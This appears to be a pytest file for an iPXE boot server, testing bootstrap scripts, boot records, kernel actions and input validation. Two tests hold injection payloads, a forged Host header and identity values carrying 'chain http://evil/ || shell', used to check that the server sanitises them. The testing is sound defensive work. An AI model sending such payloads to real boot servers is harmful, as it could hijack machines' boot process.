"""/boot.ipxe and /boot against the app with a real SQLite store (in-process ASGI)."""

from __future__ import annotations

import re

from tests.conftest import AppEnv

MAC = "52:54:00:12:34:56"


async def test_bootstrap_uses_request_scheme_host_port(app_env: AppEnv) -> None:
    r = await app_env.client.get("/boot.ipxe")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/plain")
    lines = r.text.splitlines()
    assert lines[0] == "#!ipxe"
    assert lines[1].startswith("chain http://boot.example:8050/boot?mac=${netX/mac}&uuid=${uuid}&serial=")


async def test_bootstrap_with_hostile_host_header_falls_back_to_public_host(app_env: AppEnv) -> None:
    r = await app_env.client.get("/boot.ipxe", headers={"Host": "evil${x}\nshell:80"})
    assert r.status_code == 200
    assert r.text.splitlines()[1].startswith("chain http://127.0.0.1:")
    assert len(r.text.splitlines()) == 2


async def test_unknown_machine_exits_and_is_recorded(app_env: AppEnv) -> None:
    r = await app_env.client.get("/boot", params={"mac": MAC.upper(), "uuid": "1234", "serial": "S1",
                                                  "manufacturer": "QEMU", "product": "Standard PC",
                                                  "buildarch": "x86_64", "platform": "pcbios", "ip": "198.18.0.9"})
    assert r.status_code == 200
    lines = [line for line in r.text.splitlines() if line]
    assert lines[0] == "#!ipxe" and lines[-1] == "exit"
    assert not any(line.startswith("kernel") for line in lines)
    boots = await app_env.store.list_boots(mac=MAC)
    assert len(boots) == 1
    b = boots[0]
    assert b["action"] == "exit" and b["serial"] == "S1" and b["client_ip"] == "198.18.0.10"
    assert b["manufacturer"] == "QEMU" and b["buildarch"] == "x86_64" and b["ip"] == "198.18.0.9"
    assert app_env.metrics.registry.get_sample_value("bootgate_boots_total", {"action": "exit"}) == 1


async def test_machine_with_action_boots_kernel(app_env: AppEnv) -> None:
    r = await app_env.client.put(f"/api/v1/machines/{MAC}/action", headers=app_env.auth,
                                 json={"kernel": "debian/vmlinuz", "initrd": "debian/initrd.gz",
                                       "args": "console=ttyS0"})
    assert r.status_code == 200
    r = await app_env.client.get("/boot", params={"mac": MAC})
    lines = [line for line in r.text.splitlines() if line]
    kernel = [line for line in lines if line.startswith("kernel ")]
    assert len(kernel) == 1
    m = re.fullmatch(r"kernel http://boot\.example:8050/content/debian/vmlinuz console=ttyS0 "
                     r"bootgate\.boot=([0-9a-f]{32}) bootgate\.server=http://boot\.example:8050", kernel[0])
    assert m, kernel[0]
    assert "initrd http://boot.example:8050/content/debian/initrd.gz" in lines
    assert lines[-1] == "boot"
    boots = await app_env.store.list_boots(mac=MAC)
    assert boots[0]["id"] == m.group(1) and boots[0]["action"] == "boot" and boots[0]["kernel"] == "debian/vmlinuz"


async def test_hostile_identity_values_never_reach_the_script(app_env: AppEnv) -> None:
    await app_env.store.set_action(MAC, __import__("bootgate.policy", fromlist=["MachineAction"])
                                   .MachineAction("vmlinuz", "", ""))
    evil = "x\nchain http://evil/ || shell ${net0/mac}"
    r = await app_env.client.get("/boot", params={"mac": MAC, "serial": evil, "manufacturer": evil,
                                                  "product": evil, "uuid": evil, "platform": evil})
    assert r.status_code == 200
    assert "evil" not in r.text and "shell" not in r.text
    lines = [line for line in r.text.splitlines() if line]
    # #!ipxe, echo, BranchCache's `set peerdist 1`, kernel, boot: no client value added a line
    assert len(lines) == 5 and lines[2] == "set peerdist 1", lines
    stored = (await app_env.store.list_boots(mac=MAC))[0]
    assert "\n" not in stored["serial"] and stored["serial"].startswith("xchain")


async def test_bad_and_missing_mac_are_400(app_env: AppEnv) -> None:
    r = await app_env.client.get("/boot", params={"mac": "not-a-mac"})
    assert r.status_code == 400 and "not a MAC address" in r.text
    r = await app_env.client.get("/boot")
    assert r.status_code == 400 and "missing mac" in r.text
    assert await app_env.store.list_boots() == []


async def test_healthz(app_env: AppEnv) -> None:
    r = await app_env.client.get("/healthz")
    assert r.status_code == 200 and r.text == "ok\n"
